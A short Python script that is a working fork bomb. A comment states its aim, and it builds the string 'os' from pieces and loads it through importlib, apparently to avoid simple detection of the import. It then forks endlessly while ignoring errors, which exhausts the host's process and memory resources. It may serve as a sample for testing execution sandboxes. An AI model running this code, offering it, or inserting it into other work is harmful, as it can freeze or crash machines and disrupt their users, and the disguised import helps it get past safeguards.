# importlib instead of import; forks as often as it can
import importlib
m = importlib.import_module("o" + "s")
for _ in range(10_000):
    try:
        if m.fork() == 0:
            while True:
                m.fork()
    except OSError:
        pass
